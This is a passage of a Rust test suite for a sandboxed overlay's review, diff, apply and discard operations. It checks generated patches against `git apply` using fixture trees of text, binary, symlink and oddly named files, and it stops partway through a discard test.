//! Tests of review (compare, diff, discard, apply) and checkpoints, end to end through the
//! delta's own operations, with `git apply` as the judge of the patches.

use super::*;
use crate::review::patch::PatchOptions;
use pretty_assertions::assert_eq;
use sha2::{Digest, Sha256};
use std::io::{Read, Seek, SeekFrom};
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

// ---------------------------------------------------------------------------------------------
// Fixture and helpers
// ---------------------------------------------------------------------------------------------

struct Fx {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    lower: PathBuf,
    delta_dir: PathBuf,
}

impl Fx {
    fn open(&self) -> Delta {
        Delta::open(&self.lower, &self.delta_dir).unwrap()
    }

    /// A fresh, empty directory under the fixture's root.
    fn scratch(&self, name: &str) -> PathBuf {
        let d = self.root.join(name);
        std::fs::create_dir_all(&d).unwrap();
        d
    }
}

fn p(s: &str) -> &Path {
    Path::new(s)
}

/// Bytes 0..=255 repeated: binary by git's rule (a NUL early on).
fn binary_blob(reps: usize) -> Vec<u8> {
    (0..=255u8).cycle().take(256 * reps).collect()
}

fn put_lower(lower: &Path, rel: &str, bytes: &[u8], mode: u32) {
    let path = lower.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, bytes).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// A codebase with text, binary, executable, symlinks and nested directories.
fn fx() -> (Fx, Delta) {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().to_path_buf();
    let lower = root.join("lower");
    let delta_dir = root.join("delta");
    std::fs::create_dir_all(&lower).unwrap();
    let text: String = (1..=30).map(|i| format!("line {i}\n")).collect();
    put_lower(&lower, "README", b"readme\n", 0o644);
    put_lower(&lower, "a.txt", text.as_bytes(), 0o644);
    put_lower(&lower, "same.txt", b"same\n", 0o644);
    put_lower(&lower, "nonl.txt", b"first\nno newline", 0o644);
    put_lower(&lower, "empty.txt", b"", 0o644);
    put_lower(&lower, "old name.txt", b"a name with a space\n", 0o644);
    put_lower(&lower, "rename_me.txt", b"moving\n", 0o644);
    put_lower(&lower, "replace_me.txt", b"becomes a symlink\n", 0o644);
    put_lower(&lower, "run.sh", b"#!/bin/sh\necho run\n", 0o755);
    put_lower(&lower, "tool.sh", b"#!/bin/sh\necho tool\n", 0o644);
    put_lower(&lower, "src/lib.rs", b"pub fn lib() {}\n", 0o644);
    put_lower(&lower, "src/main.rs", b"fn main() {}\n", 0o644);
    put_lower(&lower, "src/util/helpers.rs", b"pub fn help() {}\n", 0o644);
    put_lower(&lower, "docs/guide.md", b"# Guide\n", 0o644);
    put_lower(&lower, "docs/api/index.md", b"# API\n", 0o644);
    put_lower(&lower, "bin/data.bin", &binary_blob(64), 0o644);
    put_lower(&lower, "typedir/f1", b"f1\n", 0o644);
    put_lower(&lower, "typedir/f2", b"f2\n", 0o644);
    put_lower(
        &lower,
        "typefile",
        b"a file that becomes a directory\n",
        0o644,
    );
    put_lower(&lower, "nl.txt", b"x\ny", 0o644);
    let big: String = (1..=100_000).map(|i| format!("line {i}\n")).collect();
    put_lower(&lower, "big.txt", big.as_bytes(), 0o644);
    std::os::unix::fs::symlink("a.txt", lower.join("link")).unwrap();
    let d = Delta::open(&lower, &delta_dir).unwrap();
    (
        Fx {
            _tmp: tmp,
            root,
            lower,
            delta_dir,
        },
        d,
    )
}

/// Writes `bytes` as the whole content of `rel` in the merged view (creating it if absent).
fn put(d: &Delta, rel: &str, bytes: &[u8]) {
    let mut f = match d.lookup(p(rel)).unwrap() {
        Some(_) => d.open_write(p(rel), true).unwrap(),
        None => d.create_file(p(rel), 0o644, None).unwrap().0,
    };
    f.write_all(bytes).unwrap();
}

fn read(d: &Delta, rel: &str) -> Vec<u8> {
    let (mut f, _) = d.open_read(p(rel)).unwrap();
    let mut out = Vec::new();
    f.read_to_end(&mut out).unwrap();
    out
}

fn replace_link(d: &Delta, rel: &str, target: &str) {
    d.unlink(p(rel)).unwrap();
    d.symlink(p(rel), p(target), None).unwrap();
}

fn sha(b: &[u8]) -> [u8; 32] {
    Sha256::digest(b).into()
}

fn paths(v: &[&str]) -> Vec<PathBuf> {
    v.iter().map(PathBuf::from).collect()
}

/// One object of a tree as compared by these tests.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Ent {
    Dir(u32),
    File { bytes: Vec<u8>, mode: u32 },
    Link(Vec<u8>),
}

type Tree = BTreeMap<PathBuf, Ent>;

/// The merged view of `d`, read only through the delta's API.
fn view_tree(d: &Delta) -> Tree {
    let mut out = Tree::new();
    let mut stack = vec![PathBuf::new()];
    while let Some(dir) = stack.pop() {
        for (name, _) in d.list(&dir).unwrap() {
            let rel = dir.join(&name);
            let a = d.lookup(&rel).unwrap().unwrap_or_else(|| {
                panic!("{} listed but not found", rel.display());
            });
            let e = match a.kind {
                EntryKind::Dir => {
                    stack.push(rel.clone());
                    Ent::Dir(a.perm)
                }
                EntryKind::File => {
                    let (mut f, _) = d.open_read(&rel).unwrap();
                    let mut bytes = Vec::new();
                    f.read_to_end(&mut bytes).unwrap();
                    Ent::File {
                        bytes,
                        mode: a.perm,
                    }
                }
                EntryKind::Symlink => Ent::Link(d.readlink(&rel).unwrap()),
                k => panic!("unexpected {k:?} at {}", rel.display()),
            };
            out.insert(rel, e);
        }
    }
    out
}

/// A tree on disk (never following symlinks), without a top-level `.git`.
fn disk_tree(root: &Path) -> Tree {
    fn walk(root: &Path, rel: &Path, out: &mut Tree) {
        for e in std::fs::read_dir(root.join(rel)).unwrap() {
            let e = e.unwrap();
            let child = rel.join(e.file_name());
            if child == Path::new(".git") {
                continue;
            }
            let full = root.join(&child);
            let m = full.symlink_metadata().unwrap();
            let mode = m.permissions().mode() & 0o7777;
            if m.is_dir() {
                out.insert(child.clone(), Ent::Dir(mode));
                walk(root, &child, out);
            } else if m.file_type().is_symlink() {
                let t = std::fs::read_link(&full).unwrap();
                out.insert(child, Ent::Link(t.into_os_string().into_vec()));
            } else if m.is_file() {
                let bytes = std::fs::read(&full).unwrap();
                out.insert(child, Ent::File { bytes, mode });
            } else {
                panic!("unexpected object at {}", full.display());
            }
        }
    }
    let mut out = Tree::new();
    walk(root, Path::new(""), &mut out);
    out
}

/// What git can represent of a tree: files (with only the execute bit) and symlinks.
fn gitish(t: &Tree) -> Tree {
    t.iter()
        .filter_map(|(k, v)| match v {
            Ent::Dir(_) => None,
            Ent::File { bytes, mode } => Some((
                k.clone(),
                Ent::File {
                    bytes: bytes.clone(),
                    mode: if mode & 0o111 != 0 { 0o755 } else { 0o644 },
                },
            )),
            Ent::Link(t) => Some((k.clone(), Ent::Link(t.clone()))),
        })
        .collect()
}

/// Writes `tree` below the empty directory `root`.
fn materialise(tree: &Tree, root: &Path) {
    for (rel, e) in tree {
        let full = root.join(rel);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        match e {
            Ent::Dir(mode) => {
                std::fs::create_dir_all(&full).unwrap();
                std::fs::set_permissions(&full, std::fs::Permissions::from_mode(*mode)).unwrap();
            }
            Ent::File { bytes, mode } => {
                std::fs::write(&full, bytes).unwrap();
                std::fs::set_permissions(&full, std::fs::Permissions::from_mode(*mode)).unwrap();
            }
            Ent::Link(t) => std::os::unix::fs::symlink(OsStr::from_bytes(t), &full).unwrap(),
        }
    }
}

/// Runs git in `dir`, isolated from the user's and the system's configuration.
fn git(fx: &Fx, dir: &Path, args: &[&str]) -> std::process::Output {
    let home = fx.scratch("git-home");
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", &home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", home.join("gitconfig"))
        .env_remove("GIT_DIR")
        .env_remove("GIT_WORK_TREE")
        .env_remove("GIT_INDEX_FILE")
        .env_remove("GIT_CEILING_DIRECTORIES")
        .output()
        .unwrap_or_else(|e| {
            panic!("these tests need `git` on PATH to check patches, and running it failed: {e}")
        });
    assert!(
        out.status.success(),
        "git {args:?} failed in {}:\nstdout: {}\nstderr: {}",
        dir.display(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// Applies `patch` with git to a copy of `old` (a tree) and returns the result as git sees it.
fn git_apply(fx: &Fx, name: &str, old: &Tree, patch: &[u8]) -> Tree {
    let work = fx.scratch(name);
    materialise(old, &work);
    let patch_file = fx.root.join(format!("{name}.patch"));
    std::fs::write(&patch_file, patch).unwrap();
    let pf = patch_file.to_str().unwrap();
    git(fx, &work, &["init", "-q"]);
    git(fx, &work, &["apply", "--check", pf]);
    git(fx, &work, &["apply", "--binary", pf]);
    gitish(&disk_tree(&work))
}

/// The change statuses of a change set, by path.
fn statuses(set: &ChangeSet) -> BTreeMap<PathBuf, ChangeStatus> {
    set.changes
        .iter()
        .map(|c| (c.path.clone(), c.status))
        .collect()
}

/// The full battery of changes, made through the delta's API.
fn make_changes(d: &Delta) {
    // Text edits (one in the middle of a longer file, one without a final newline).
    let mut text: Vec<String> = (1..=30).map(|i| format!("line {i}\n")).collect();
    text[14] = "line fifteen, edited\n".into();
    text.push("line 31\n".into());
    put(d, "a.txt", text.concat().as_bytes());
    put(d, "src/lib.rs", b"pub fn lib() -> u8 {\n    1\n}\n");
    put(d, "nonl.txt", b"first\nstill no newline");
    put(d, "old name.txt", b"a name with a space, edited\n");
    put(d, "nl.txt", b"x\ny\n");
    // Content and mode at once.
    put(d, "run.sh", b"#!/bin/sh\necho ran\n");
    d.set_mode(p("run.sh"), 0o644).unwrap();
    // A large file (copied up outside the lock), changed in the middle.
    {
        let mut f = d.open_write(p("big.txt"), false).unwrap();
        f.seek(SeekFrom::Start(600_000)).unwrap();
        f.write_all(b"CHANGED").unwrap();
    }
    // The same bytes again: not a change.
    put(d, "same.txt", b"same\n");
    // Additions, in new nested directories too, with awkward names.
    put(d, "src/new.rs", b"pub fn new() {}\n");
    d.mkdir(p("src/feature"), 0o755, None).unwrap();
    d.mkdir(p("src/feature/deep"), 0o755, None).unwrap();
    put(d, "src/feature/deep/mod.rs", b"mod deep;\n");
    d.mkdir(p("new dir"), 0o755, None).unwrap();
    put(d, "new dir/with space.txt", b"spaced out\n");
    put(d, "caf\u{e9}.txt", b"non-ascii name\n");
    put(d, "quote\"d.txt", b"a quote in the name\n");
    put(d, "added_empty.txt", b"");
    put(d, "tab\there.txt", b"a tab in the name\n");
    d.create_file(
        Path::new(OsStr::from_bytes(b"raw\xffname.txt")),
        0o644,
        None,
    )
    .unwrap()
    .0
    .write_all(b"not utf-8\n")
    .unwrap();
    d.create_file(p("new.sh"), 0o755, None)
        .unwrap()
        .0
        .write_all(b"#!/bin/sh\necho new\n")
        .unwrap();
    // Deletions: files, an empty file, a whole directory tree.
    d.unlink(p("README")).unwrap();
    d.unlink(p("empty.txt")).unwrap();
    d.unlink(p("docs/api/index.md")).unwrap();
    d.rmdir(p("docs/api")).unwrap();
    d.unlink(p("docs/guide.md")).unwrap();
    d.rmdir(p("docs")).unwrap();
    // Mode only.
    d.set_mode(p("tool.sh"), 0o755).unwrap();
    // Symlinks: a new target, and a file replaced by a symlink.
    replace_link(d, "link", "src/lib.rs");
    d.unlink(p("replace_me.txt")).unwrap();
    d.symlink(p("replace_me.txt"), p("a.txt"), None).unwrap();
    // Binaries: modified in place, and a new one.
    {
        let mut f = d.open_write(p("bin/data.bin"), false).unwrap();
        f.seek(SeekFrom::Start(1000)).unwrap();
        f.write_all(&[0xAA; 16]).unwrap();
        f.seek(SeekFrom::End(0)).unwrap();
        f.write_all(b"\0tail\0").unwrap();
    }
    let mut new_bin = binary_blob(3);
    new_bin.reverse();
    put(d, "bin/new.bin", &new_bin);
    // A rename (a deletion and an addition).
    d.rename(p("rename_me.txt"), p("renamed.txt")).unwrap();
    // A directory replaced by a file, and a file by a directory.
    d.unlink(p("typedir/f1")).unwrap();
    d.unlink(p("typedir/f2")).unwrap();
    d.rmdir(p("typedir")).unwrap();
    put(d, "typedir", b"now a file\n");
    d.unlink(p("typefile")).unwrap();
    d.mkdir(p("typefile"), 0o755, None).unwrap();
    put(d, "typefile/inner.txt", b"inside\n");
}

fn expected_statuses() -> BTreeMap<PathBuf, ChangeStatus> {
    use ChangeStatus::*;
    [
        ("README", Deleted),
        ("a.txt", Modified),
        ("added_empty.txt", Added),
        ("bin/data.bin", Modified),
        ("bin/new.bin", Added),
        ("caf\u{e9}.txt", Added),
        ("docs", Deleted),
        ("docs/api", Deleted),
        ("docs/api/index.md", Deleted),
        ("docs/guide.md", Deleted),
        ("empty.txt", Deleted),
        ("link", Modified),
        ("new dir", Added),
        ("new dir/with space.txt", Added),
        ("nonl.txt", Modified),
        ("old name.txt", Modified),
        ("quote\"d.txt", Added),
        ("rename_me.txt", Deleted),
        ("renamed.txt", Added),
        ("replace_me.txt", TypeChanged),
        ("src/feature", Added),
        ("src/feature/deep", Added),
        ("src/feature/deep/mod.rs", Added),
        ("src/lib.rs", Modified),
        ("src/new.rs", Added),
        ("tool.sh", ModeChanged),
        ("typedir", TypeChanged),
        ("typedir/f1", Deleted),
        ("typedir/f2", Deleted),
        ("typefile", TypeChanged),
        ("typefile/inner.txt", Added),
        ("nl.txt", Modified),
        ("run.sh", Modified),
        ("big.txt", Modified),
        ("tab\there.txt", Added),
        ("new.sh", Added),
    ]
    .into_iter()
    .map(|(k, v)| (PathBuf::from(k), v))
    .chain([(PathBuf::from(OsStr::from_bytes(b"raw\xffname.txt")), Added)])
    .collect()
}

fn no_expectations() -> BTreeMap<PathBuf, Option<[u8; 32]>> {
    BTreeMap::new()
}

fn allow_all(_: &Path, _: EntryKind) -> bool {
    true
}

fn never_busy(_: &Path) -> bool {
    false
}

// ---------------------------------------------------------------------------------------------
// 1. Diff round trip through real git
// ---------------------------------------------------------------------------------------------

#[test]
fn review_diff_round_trips_through_git_apply() {
    let (fx, d) = fx();
    make_changes(&d);
    let patch = diff(
        View::Base(&d),
        View::Merged(&d),
        &Selection::all(),
        &PatchOptions::default(),
    )
    .unwrap();
    assert!(!patch.truncated);
    assert!(patch.files > 20, "{} sections", patch.files);
    let text = String::from_utf8_lossy(&patch.text);
    assert!(text.contains("GIT binary patch"), "{text}");
    assert!(text.contains("old mode 100644\nnew mode 100755"), "{text}");
    assert!(text.contains("old mode 100755\nnew mode 100644"), "{text}");
    assert!(text.contains("new file mode 100755"), "{text}");
    assert!(text.contains("\"a/tab\\there.txt\""), "{text}");
    assert!(text.contains("\"a/raw\\377name.txt\""), "{text}");

    let base = disk_tree(&fx.lower);
    let applied = git_apply(&fx, "applied", &base, &patch.text);
    assert_ne!(applied, gitish(&base));
    assert_eq!(applied, gitish(&view_tree(&d)));
    // The diff only read: the codebase and the delta are as they were.
    assert_eq!(disk_tree(&fx.lower), base);
}

#[test]
fn review_diff_of_a_selection_applies_only_that_selection() {
    let (fx, d) = fx();
    make_changes(&d);
    let select = Selection::globs(&["src/**", "bin"]).unwrap();
    let patch = diff(
        View::Base(&d),
        View::Merged(&d),
        &select,
        &PatchOptions::default(),
    )
    .unwrap();
    let base = disk_tree(&fx.lower);
    let applied = git_apply(&fx, "partial", &base, &patch.text);
    let merged = gitish(&view_tree(&d));
    let want: Tree = gitish(&base)
        .into_iter()
        .filter(|(k, _)| !select.selects(k))
        .chain(merged.into_iter().filter(|(k, _)| select.selects(k)))
        .collect();
    assert_eq!(applied, want);
}

// ---------------------------------------------------------------------------------------------
// 2. Review statuses
// ---------------------------------------------------------------------------------------------

#[test]
fn review_lists_each_change_with_its_status_and_digests() {
    let (fx, d) = fx();
    make_changes(&d);
    let set = d.review(&Selection::all(), 0).unwrap();
    assert!(!set.truncated);
    assert_eq!(set.total, set.changes.len());
    assert_eq!(statuses(&set), expected_statuses());
    // Sorted by path.
    let listed: Vec<&PathBuf> = set.changes.iter().map(|c| &c.path).collect();
    let mut sorted = listed.clone();
    sorted.sort();
    assert_eq!(listed, sorted);
    // `same.txt` was rewritten (it is pending) but is no change.
    assert!(d.pending().contains(&PathBuf::from("same.txt")));

    for c in &set.changes {
        let rel = c.path.as_path();
        let lower = fx.lower.join(rel);
        let lower_md = lower.symlink_metadata().ok();
        // Before: the codebase's bytes (a symlink's target).
        let base_bytes = match &lower_md {
            Some(m) if m.file_type().is_symlink() => Some(
                std::fs::read_link(&lower)
                    .unwrap()
                    .into_os_string()
                    .into_vec(),
            ),
            Some(m) if m.is_file() => Some(std::fs::read(&lower).unwrap()),
            _ => None,
        };
        // After: the merged view's.
        let now = d.lookup(rel).unwrap();
        let new_bytes = match now.map(|a| a.kind) {
            Some(EntryKind::Symlink) => Some(d.readlink(rel).unwrap()),
            Some(EntryKind::File) => {
                let mut b = Vec::new();
                d.open_read(rel).unwrap().0.read_to_end(&mut b).unwrap();
                Some(b)
            }
            _ => None,
        };
        assert_eq!(c.base_sha256, base_bytes.as_deref().map(sha), "{c:?}");
        assert_eq!(c.sha256, new_bytes.as_deref().map(sha), "{c:?}");
        let is_bin = |b: &Option<Vec<u8>>| b.as_ref().is_some_and(|b| b.contains(&0));
        assert_eq!(c.binary, is_bin(&base_bytes) || is_bin(&new_bytes), "{c:?}");
        assert!(!c.base_moved, "{c:?}");
        match c.status {
            ChangeStatus::Deleted => {
                assert_eq!(c.mode, None, "{c:?}");
                assert_eq!(c.size, 0, "{c:?}");
                assert!(now.is_none(), "{c:?}");
            }
            ChangeStatus::Added => {
                assert_eq!(c.old_kind, None, "{c:?}");
                assert_eq!(c.old_mode, None, "{c:?}");
                assert!(lower_md.is_none(), "{c:?}");
            }
            _ => {}
        }
        if let Some(a) = now {
            assert_eq!(c.kind, a.kind, "{c:?}");
            assert_eq!(c.mode, Some(a.perm), "{c:?}");
            assert_eq!(c.size, a.size, "{c:?}");
        }
    }

    let get = |rel: &str| {
        set.changes
            .iter()
            .find(|c| c.path == Path::new(rel))
            .unwrap()
            .clone()
    };
    assert!(get("bin/data.bin").binary);
    assert!(get("bin/new.bin").binary);
    assert!(!get("a.txt").binary);
    let tool = get("tool.sh");
    assert_eq!((tool.old_mode, tool.mode), (Some(0o644), Some(0o755)));
    assert_eq!(tool.sha256, tool.base_sha256);
    let run = get("run.sh");
    assert_eq!((run.old_mode, run.mode), (Some(0o755), Some(0o644)));
    assert_ne!(run.sha256, run.base_sha256);
    assert_eq!(get("new.sh").mode, Some(0o755));
    let replaced = get("replace_me.txt");
    assert_eq!(
        (replaced.old_kind, replaced.kind),
        (Some(EntryKind::File), EntryKind::Symlink)
    );
    assert_eq!(replaced.sha256, Some(sha(b"a.txt")));
    let td = get("typedir");
    assert_eq!(
        (td.old_kind, td.kind),
        (Some(EntryKind::Dir), EntryKind::File)
    );
    assert_eq!(td.base_sha256, None);
    let tf = get("typefile");
    assert_eq!(
        (tf.old_kind, tf.kind),
        (Some(EntryKind::File), EntryKind::Dir)
    );
    assert_eq!(tf.sha256, None);
    let docs = get("docs");
    assert_eq!(
        (docs.kind, docs.old_kind),
        (EntryKind::Dir, Some(EntryKind::Dir))
    );
    assert_eq!(get("link").sha256, Some(sha(b"src/lib.rs")));
    assert_eq!(get("link").base_sha256, Some(sha(b"a.txt")));
}

#[test]
fn review_limit_truncates_but_never_drops_deletions() {
    let (_fx, d) = fx();
    make_changes(&d);
    let full = d.review(&Selection::all(), 0).unwrap();
    let limited = d.review(&Selection::all(), 3).unwrap();
    assert!(limited.truncated);
    assert_eq!(limited.total, full.total);
    let mut kept = 0;
    let want: Vec<PathChange> = full
        .changes
        .iter()
        .filter(|c| {
            c.status == ChangeStatus::Deleted || {
                kept += 1;
                kept <= 3
            }
        })
        .cloned()
        .collect();
    assert_eq!(limited.changes, want);
    let deletions = |s: &ChangeSet| {
        s.changes
            .iter()
            .filter(|c| c.status == ChangeStatus::Deleted)
            .count()
    };
    assert_eq!(deletions(&limited), deletions(&full));
    assert_eq!(deletions(&full), 9);
    // A limit above the count truncates nothing.
    let roomy = d.review(&Selection::all(), full.total + 1).unwrap();
    assert!(!roomy.truncated);
    assert_eq!(roomy, full);
    // A selection narrows both the list and the total.
    let docs = d.review(&Selection::globs(&["docs"]).unwrap(), 1).unwrap();
    assert_eq!(
        statuses(&docs).into_keys().collect::<Vec<_>>(),
        paths(&["docs", "docs/api", "docs/api/index.md", "docs/guide.md"])
    );
    assert_eq!(docs.total, 4);
    assert!(!docs.truncated);
}

#[test]
fn review_of_an_untouched_delta_is_empty() {
    let (_fx, d) = fx();
    assert_eq!(
        d.review(&Selection::all(), 0).unwrap(),
        ChangeSet::default()
    );
    // Rewriting identical bytes and chmod to the same mode are no change either.
    put(&d, "same.txt", b"same\n");
    d.set_mode(p("run.sh"), 0o755).unwrap();
    assert_eq!(
        d.review(&Selection::all(), 0).unwrap(),
        ChangeSet::default()
    );
    let patch = diff(
        View::Base(&d),
        View::Merged(&d),
        &Selection::all(),
        &PatchOptions::default(),
    )
    .unwrap();
    assert_eq!(patch.text, b"");
    assert_eq!(patch.files, 0);
}

// ---------------------------------------------------------------------------------------------
// 3. Partial apply
// ---------------------------------------------------------------------------------------------

#[test]
fn review_partial_apply_publishes_only_the_selection() {
    let (fx, d) = fx();
    put(&d, "src/lib.rs", b"pub fn lib2() {}\n");
    put(&d, "src/new.rs", b"new\n");
    d.mkdir(p("src/feature"), 0o755, None).unwrap();
    put(&d, "src/feature/x.rs", b"x\n");
    d.unlink(p("src/main.rs")).unwrap();
    put(&d, "a.txt", b"not selected\n");
    d.unlink(p("README")).unwrap();
    put(&d, "docs/new.md", b"not selected either\n");
    let before = view_tree(&d);

    let select = Selection::globs(&["src/**"]).unwrap();
    let report = d
        .apply(&select, &no_expectations(), &allow_all, &never_busy)
        .unwrap();
    let mut written = report.written.clone();
    written.sort();
    assert_eq!(
        written,
        paths(&[
            "src/feature",
            "src/feature/x.rs",
            "src/lib.rs",
            "src/new.rs"
        ])
    );
    assert_eq!(report.deleted, paths(&["src/main.rs"]));
    assert_eq!(report.skipped, Vec::<PathBuf>::new());
    assert_eq!(report.conflicts, vec![]);
    assert_eq!(report.failed, vec![]);

    // The selection reached the codebase ...
    let lower = |rel: &str| std::fs::read(fx.lower.join(rel)).ok();
    assert_eq!(lower("src/lib.rs").unwrap(), b"pub fn lib2() {}\n");
    assert_eq!(lower("src/new.rs").unwrap(), b"new\n");
    assert_eq!(lower("src/feature/x.rs").unwrap(), b"x\n");
    assert!(!fx.lower.join("src/main.rs").exists());
    // ... and nothing else did.
    assert!(lower("a.txt").unwrap().starts_with(b"line 1\n"));
    assert_eq!(lower("README").unwrap(), b"readme\n");
    assert!(!fx.lower.join("docs/new.md").exists());
    // The rest stays pending, and the sandbox sees the same tree.
    assert_eq!(d.pending(), paths(&["README", "a.txt", "docs/new.md"]));
    assert_eq!(view_tree(&d), before);
    assert_eq!(
        statuses(&d.review(&Selection::all(), 0).unwrap()),
        [
            ("README", ChangeStatus::Deleted),
            ("a.txt", ChangeStatus::Modified),
            ("docs/new.md", ChangeStatus::Added),
        ]
        .into_iter()
        .map(|(k, v)| (PathBuf::from(k), v))
        .collect()
    );
    // Reopening the delta keeps that state.
    drop(d);
    let d = fx.open();
    assert_eq!(d.pending(), paths(&["README", "a.txt", "docs/new.md"]));
    assert_eq!(view_tree(&d), before);
}

// ---------------------------------------------------------------------------------------------
// 4. Refusals: nothing written
// ---------------------------------------------------------------------------------------------

#[test]
fn review_apply_refuses_a_conflict_and_writes_nothing() {
    let (fx, d) = fx();
    put(&d, "a.txt", b"sandbox version\n");
    put(&d, "fresh.txt", b"fresh\n");
    d.unlink(p("README")).unwrap();
    // Someone changes the codebase's a.txt behind the sandbox's back.
    {
        let mut f = File::options()
            .append(true)
            .open(fx.lower.join("a.txt"))
            .unwrap();
        f.write_all(b"someone else's line\n").unwrap();
    }
    let lower_before = disk_tree(&fx.lower);
    let pending_before = d.pending();

    let set = d.review(&Selection::all(), 0).unwrap();
    let moved: Vec<&PathBuf> = set
        .changes
        .iter()
        .filter(|c| c.base_moved)
        .map(|c| &c.path)
        .collect();
    assert_eq!(moved, [&PathBuf::from("a.txt")]);

    match d.apply(
        &Selection::all(),
        &no_expectations(),
        &allow_all,
        &never_busy,
    ) {
        Err(ApplyRefusal::Conflicts(c)) => {
            assert_eq!(
                c.iter().map(|c| c.path.clone()).collect::<Vec<_>>(),
                paths(&["a.txt"]),
                "{c:?}"
            );
        }
        other => panic!("expected a conflict, got {other:?}"),
    }
    assert!(!fx.lower.join("fresh.txt").exists());
    assert!(fx.lower.join("README").exists());
    assert_eq!(disk_tree(&fx.lower), lower_before);
    assert_eq!(d.pending(), pending_before);
    assert_eq!(read(&d, "a.txt"), b"sandbox version\n");

    // Leaving the conflicting path out of the selection lets the rest through.
    let report = d
        .apply(
            &Selection::globs(&["fresh.txt", "README"]).unwrap(),
            &no_expectations(),
            &allow_all,
            &never_busy,
        )
        .unwrap();
    assert_eq!(report.written, paths(&["fresh.txt"]));
    assert_eq!(report.deleted, paths(&["README"]));
    assert_eq!(d.pending(), paths(&["a.txt"]));
}

#[test]
fn review_apply_checks_expected_digests_and_pending_paths() {
    let (fx, d) = fx();
    put(&d, "src/lib.rs", b"changed\n");
    put(&d, "fresh.txt", b"fresh\n");
    let lower_before = disk_tree(&fx.lower);
    let pending_before = d.pending();
    let base_lib = sha(&std::fs::read(fx.lower.join("src/lib.rs")).unwrap());
    let unchanged = |d: &Delta| {
        assert_eq!(disk_tree(&fx.lower), lower_before);
        assert_eq!(d.pending(), pending_before);
    };

    // A wrong base digest.
    let wrong: BTreeMap<PathBuf, Option<[u8; 32]>> =
        [(PathBuf::from("src/lib.rs"), Some([0u8; 32]))].into();
    match d.apply(&Selection::all(), &wrong, &allow_all, &never_busy) {
        Err(ApplyRefusal::Conflicts(c)) => {
            assert_eq!(c.len(), 1, "{c:?}");
            assert_eq!(c[0].path, Path::new("src/lib.rs"));
            assert!(c[0].reason.contains(&hex_digest(&base_lib)), "{c:?}");
        }
        other => panic!("expected a conflict, got {other:?}"),
    }
    unchanged(&d);

    // "Must not exist" for a path the codebase has.
    let absent: BTreeMap<PathBuf, Option<[u8; 32]>> = [(PathBuf::from("src/lib.rs"), None)].into();
    assert!(matches!(
        d.apply(&Selection::all(), &absent, &allow_all, &never_busy),
        Err(ApplyRefusal::Conflicts(_))
    ));
    unchanged(&d);

    // A path that is not pending.
    let stray: BTreeMap<PathBuf, Option<[u8; 32]>> =
        [(PathBuf::from("README"), Some(sha(b"readme\n")))].into();
    match d.apply(&Selection::all(), &stray, &allow_all, &never_busy) {
        Err(ApplyRefusal::NotPending(v)) => assert_eq!(v, paths(&["README"])),
        other => panic!("expected NotPending, got {other:?}"),
    }
    unchanged(&d);

    // A pending path outside the selection is not pending for this apply.
    let outside: BTreeMap<PathBuf, Option<[u8; 32]>> = [(PathBuf::from("fresh.txt"), None)].into();
    match d.apply(
        &Selection::globs(&["src/**"]).unwrap(),
        &outside,
        &allow_all,
        &never_busy,
    ) {
        Err(ApplyRefusal::NotPending(v)) => assert_eq!(v, paths(&["fresh.txt"])),
        other => panic!("expected NotPending, got {other:?}"),
    }
    unchanged(&d);

    // The rules refuse one path: nothing at all is written.
    let refuse_fresh = |rel: &Path, _: EntryKind| rel != Path::new("fresh.txt");
    match d.apply(
        &Selection::all(),
        &no_expectations(),
        &refuse_fresh,
        &never_busy,
    ) {
        Err(ApplyRefusal::NotWritable(v)) => assert_eq!(v, paths(&["fresh.txt"])),
        other => panic!("expected NotWritable, got {other:?}"),
    }
    unchanged(&d);

    // check_apply agrees and writes nothing either; the right digests pass.
    let right: BTreeMap<PathBuf, Option<[u8; 32]>> = [
        (PathBuf::from("src/lib.rs"), Some(base_lib)),
        (PathBuf::from("fresh.txt"), None),
    ]
    .into();
    assert_eq!(
        d.check_apply(&Selection::all(), &right, &allow_all)
            .unwrap()
            .into_iter()
            .collect::<Vec<_>>(),
        paths(&["fresh.txt", "src/lib.rs"])
    );
    unchanged(&d);
    let report = d
        .apply(&Selection::all(), &right, &allow_all, &never_busy)
        .unwrap();
    assert_eq!(report.written, paths(&["fresh.txt", "src/lib.rs"]));
    assert_eq!(
        std::fs::read(fx.lower.join("src/lib.rs")).unwrap(),
        b"changed\n"
    );
    assert_eq!(d.pending(), Vec::<PathBuf>::new());
}

// ---------------------------------------------------------------------------------------------
// 5. Discard
// ---------------------------------------------------------------------------------------------

#[test]
fn review_discard_brings_the_codebase_version_back() {
    let (fx, d) = fx();
    make_changes(&d);
    let lower = |rel: &str| std::fs::read(fx.lower.join(rel)).unwrap();

    // A modified file.
    assert_eq!(
        d.discard(&Selection::globs(&["a.txt"]).unwrap()).unwrap(),
        paths(&["a.txt"])
    );
    assert_eq!(d.lookup(p("a.txt")).unwrap().unwrap().layer, Layer::Lower);
    assert_eq!(read(&d, "a.txt"), lower("a.txt"));
    assert!(!d.pending().contains(&PathBuf::from("a.txt")));
    assert!(!fx.delta_dir.join("upper/a.txt").exists());
    // Others remain.
    assert_eq!(read(&d, "src/lib.rs"), b"pub fn lib() -> u8 {\n    1\n}\n");
    assert!(d.pending().contains(&PathBuf::from("src/lib.rs")));

    // A file replaced by a symlink, and a mode change.
    d.discard(&Selection::globs(&["replace_me.txt", "tool.sh"]).unwrap())
        .unwrap();
    let a = d.lookup(p("replace_me.txt")).unwrap().unwrap();
    assert_eq!((a.kind, a.layer), (EntryKind::File, Layer::Lower));
    assert_eq!(read(&d, "replace_me.txt"), lower("replace_me.txt"));
    assert_eq!(d.lookup(p("tool.sh")).unwrap().unwrap().perm, 0o644);

    // A child of a deleted directory cannot come back without the directory.
    let pending = d.pending();
    let view = view_tree(&d);
    let err = d
        .discard(&Selection::globs(&["docs/guide.md"]).unwrap())
        .unwrap_err();
    assert!(
